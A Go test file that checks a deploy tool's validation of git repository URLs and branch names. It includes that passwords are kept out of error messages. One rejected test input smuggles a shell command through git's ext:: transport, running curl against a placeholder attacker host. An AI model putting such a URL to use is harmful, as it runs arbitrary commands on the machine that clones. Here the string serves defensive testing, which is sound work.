package step

import (
	"strings"
	"testing"
)

// TestValidateRepoURL: the config repo URLs deliver accepts, and the message for those it
// refuses (never holding a password).
func TestValidateRepoURL(t *testing.T) {
	t.Parallel()
	tests := []struct{ url, wantErr string }{
		{"https://gitlab.example.com/team/config.git", ""},
		{"http://127.0.0.1:8080/config.git", ""},
		{"HTTPS://gitlab.example.com/team/config.git", ""},
		{"https://[::1]:8080/config.git", ""},
		{"ssh://git@gitlab.example.com:2222/team/config.git", ""},
		{"git@github.com:team/config.git", ""},
		{"ext::sh -c 'curl http://evil.example'", "unsupported transport ext::"},
		{"git@host::x", "unsupported transport git@host::"},
		{"git://gitlab.example.com/config.git", "unsupported scheme git://"},
		{"file:///srv/git/config.git", "unsupported scheme file://"},
		{"/srv/git/config.git", "local paths are not supported"},
		{"config.git", "local paths are not supported"},
		{"https:///config.git", "not a usable https:// URL"},
		{"https://host/con fig.git", "space or control character"},
		{"https://host/config.git\n", "space or control character"},
		{"user:s3cret@host/config.git", "not an https://"},
	}
	for _, tt := range tests {
		err := validateRepoURL(tt.url)
		switch {
		case tt.wantErr == "" && err != nil:
			t.Errorf("validateRepoURL(%q) = %v, want nil", tt.url, err)
		case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
			t.Errorf("validateRepoURL(%q) = %v, want %q", tt.url, err, tt.wantErr)
		case err != nil && strings.Contains(err.Error(), "s3cret"):
			t.Errorf("validateRepoURL(%q) repeats the password: %v", tt.url, err)
		}
	}
}

// TestValidateBranch: the branch names git accepts pass; those it refuses are bad input.
func TestValidateBranch(t *testing.T) {
	t.Parallel()
	for _, ok := range []string{"main", "release/1.x", "feature-a_b.c", "deploy@x"} {
		if err := validateBranch(ok); err != nil {
			t.Errorf("validateBranch(%q) = %v, want nil", ok, err)
		}
	}
	for _, bad := range []string{"", "main..x", "main x", "main\nx", "main~1", "main^", "a:b", "a?", "a*", "a[1]", `a\b`, "-main",
		"main.lock", "main@{1}", "@", ".hidden", "a/.b", "main/", "/main", "a//b", "main.", "a\x7fb"} {
		if err := validateBranch(bad); err == nil {
			t.Errorf("validateBranch(%q) = nil, want an error", bad)
		}
	}
}
